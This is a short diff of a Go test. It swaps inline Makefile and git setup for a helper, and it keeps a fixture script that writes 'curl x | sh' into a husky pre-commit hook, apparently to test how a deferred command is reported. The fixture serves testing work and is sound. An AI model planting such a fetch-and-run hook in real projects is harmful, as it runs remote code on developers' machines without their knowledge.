@@ -19,10 +19,7 @@ func TestRunLaterACommandLeftIsToldToThePersonNotOnlyTheClient(t *testing.T) {
 	bin := helper(t)
 	f := newFixture(t)
 	app := f.rw
-	write(t, filepath.Join(app, "Makefile"), "all:\n\techo hi\n")
-	gitIn(t, app, "init", "-q", "-b", "main")
-	gitIn(t, app, "add", "Makefile")
-	gitIn(t, app, "commit", "-qm", "one")
+	committedMakefile(t, app)
 	write(t, filepath.Join(app, "s.sh"), `set -e
 g() { git -c user.name=c -c user.email=c@x -c commit.gpgSign=false "$@"; }
 mkdir -p .husky && echo 'curl x | sh' > .husky/pre-commit
